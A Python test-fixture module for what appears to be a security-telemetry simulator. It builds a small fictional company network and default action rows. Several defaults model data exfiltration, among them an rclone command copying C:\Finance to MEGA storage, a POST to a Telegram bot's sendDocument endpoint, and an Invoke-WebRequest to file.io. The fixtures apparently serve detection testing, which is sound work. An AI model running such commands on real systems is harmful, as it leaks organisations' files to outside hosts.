"""A small world by hand, and actions with defaults, so that a test says only what it is about."""

from __future__ import annotations

from typing import Any

import polars as pl
import yaml

from simulator.content import content
from simulator.scenario.actions import ACTIONS
from simulator.world import HOSTS, USERS, Company, Release, Software, World

START = 1_772_409_600_000_000  # 2026-03-02 00:00 UTC
NOON = START + 12 * 3_600_000_000 + 34_567_891

ORDINARY = 0
OLD_SYSMON = 1
NO_SYSMON = 2
LINUX = 3
OLD_AUDIT = 4
SYSTEM, LOCAL_SERVICE, NETWORK_SERVICE, ALICE, ADMIN = range(5)

_HOST: dict[str, Any] = {
    "name": "WS-0001",
    "fqdn": "WS-0001.meridian.example",
    "domain": "MERIDIAN",
    "os": "windows",
    "os_version": "10.0.22631",
    "role": "workstation",
    "ip": "10.20.0.11",
    "mac": "00:15:5d:00:00:01",
    "machine_guid": "0a1b2c3d",
    "sysmon_version": "15.15",
    "timezone": "UTC",
    "utc_offset": 0,
    "boot_time": START - 3_600_000_000,
    "owner": ALICE,
    "service": SYSTEM,
    "sysmon_old": False,
    "command_line_audited": True,
    "audit_v1": False,
    "dns_client_channel_on": True,
    "powershell4": False,
    "script_logging": True,
    "module_logging": True,
    "proxied": True,
    "tls_inspected": True,
}

_HOSTS: list[dict[str, Any]] = [
    {},
    {"sysmon_version": "10.42", "sysmon_old": True, "command_line_audited": False, "tls_inspected": False},
    {"sysmon_version": "", "dns_client_channel_on": False, "script_logging": False, "module_logging": False}
    | {"proxied": False},
    {"os": "linux", "sysmon_version": "", "machine_guid": "", "dns_client_channel_on": False, "name": "srv-web"}
    | {"script_logging": False, "module_logging": False},
    {"audit_v1": True, "powershell4": True},
]

_USERS: list[dict[str, Any]] = [
    {"name": "SYSTEM", "domain": "NT AUTHORITY", "sid": "S-1-5-18", "kind": "system", "role": "system"},
    {"name": "LOCAL SERVICE", "domain": "NT AUTHORITY", "sid": "S-1-5-19", "kind": "system", "role": "system"},
    {"name": "NETWORK SERVICE", "domain": "NT AUTHORITY", "sid": "S-1-5-20", "kind": "system", "role": "system"},
    {"name": "alice.frost", "domain": "MERIDIAN", "sid": "S-1-5-21-1-2-3-1104", "kind": "person", "role": "employee"},
    {"name": "bob.admin", "domain": "MERIDIAN", "sid": "S-1-5-21-1-2-3-1105", "kind": "person", "role": "domain-admin"},
]

SOFTWARE = {
    "rclone": Software(
        "rclone",
        "rclone",
        "https://rclone.org",
        "Rclone",
        "Rsync for cloud storage",
        "rclone.exe",
        None,
        None,
        {"1.61.1": Release("1.61.1", 46_400_000)},
    ),
    "restic": Software("restic", "restic", None, None, None, None, None, None, {"0.16.4": Release(None, 21_000_000)}),
}


def world(**parameters: bool | int | float | str) -> World:
    """Five hosts and five accounts; parameters of the office world, except those given here."""
    office = yaml.safe_load((content("scenarios") / "worlds" / "office.yaml").read_text(encoding="utf-8"))
    settings = {name: setting["value"] for name, setting in office["parameters"].items()}
    unknown = parameters.keys() - settings.keys()
    assert not unknown, f"not parameters of the office world: {unknown}"
    hosts = [
        _HOST
        | {"name": f"WS-000{i + 1}", "fqdn": f"WS-000{i + 1}.meridian.example", "ip": f"10.20.0.{11 + i}"}
        | {"index": i, "id": 1000 + i}
        | host
        for i, host in enumerate(_HOSTS)
    ]
    blank = dict.fromkeys(USERS)
    users = [
        blank | {"index": i, "id": 2000 + i, "host": 0, "email": f"{user['name']}@meridian.example"} | user
        for i, user in enumerate(_USERS)
    ]
    return World(
        profile="test",
        seed=7,
        start=START,
        days=1,
        company=Company("Meridian", "meridian.example", "MERIDIAN", "meridian", "S-1-5-21-1-2-3", (), ()),
        hosts=pl.DataFrame(hosts, schema=HOSTS),
        users=pl.DataFrame(users, schema=USERS),
        installed=pl.DataFrame(schema={"host": pl.UInt32, "software": pl.String, "version": pl.String}),
        software=SOFTWARE,
        parameters=settings | {"clock_skew_milliseconds": 0} | parameters,
        sources={},
        pools={},
    )


_ACTOR: dict[str, Any] = {
    "instance_id": 99,
    "time": NOON,
    "host": ORDINARY,
    "user": ALICE,
    "process": 0xABCDEF,
    "process_start": NOON,
    "image": r"C:\Tools\rclone.exe",
}
_DEFAULTS: dict[str, dict[str, Any]] = {
    "process_start": {
        "command_line": r'"C:\Tools\rclone.exe" copy C:\Finance mega:in',
        "folder": r"C:\Tools",
        "software": "rclone",
        "version": "1.61.1",
        "integrity": "Medium",
        "session": 1,
        "logon": 0x1234567,
        "parent": 0x777,
        "parent_start": NOON - 60_000_000,
        "parent_image": r"C:\Windows\explorer.exe",
        "parent_command_line": r"C:\Windows\Explorer.EXE",
        "parent_user": ALICE,
    },
    "lookup": {
        "name": "g.api.mega.co.nz",
        "query_type": "A",
        "status": 0,
        "cnames": ["lu.api.mega.co.nz"],
        "addresses": ["66.203.125.11"],
        "system_resolver": True,
    },
    "connection": {
        "protocol": "tcp",
        "source_port": 50123,
        "address": "66.203.125.11",
        "name": "g.api.mega.co.nz",
        "port": 443,
        "bytes_out": 10,
        "bytes_in": 20,
        "duration": 1000,
        "process_command_line": r"C:\Tools\rclone.exe copy C:\Finance mega:in",
    },
    "write": {"path": r"C:\Tools\rclone.conf", "bytes": 300, "process_command_line": r"C:\Tools\rclone.exe config"},
    "request": {
        "method": "POST",
        "scheme": "https",
        "name": "api.telegram.org",
        "port": 443,
        "path": "/bot123/sendDocument?chat_id=7",
        "user_agent": "curl/8.10.1",
        "referrer": None,
        "bytes_out": 20_000,
        "bytes_in": 600,
        "status": 200,
        "address": "149.154.167.220",
    },
    "script": {"text": "Get-Date", "path": None, "suspicious": False},
    "cmdlet": {
        "command": "Invoke-WebRequest",
        "parameters": ["Uri=https://file.io/?a=b", "UseBasicParsing"],
        "script": None,
        "host_application": "powershell.exe",
        "sequence": 3,
    },
}


def actions(kind: str, *rows: dict[str, Any], count: int = 0) -> pl.DataFrame:
    """A frame of `kind`: the rows given, filled up with defaults; or `count` rows that differ in their identities."""
    given = list(rows) or [{}]
    if count:
        given = [dict(given[0], process=0xABCDEF + i) for i in range(count)]
    filled = [{"action_id": 500 + i} | _ACTOR | _DEFAULTS[kind] | row for i, row in enumerate(given)]
    return pl.DataFrame(filled, schema=ACTIONS[kind])
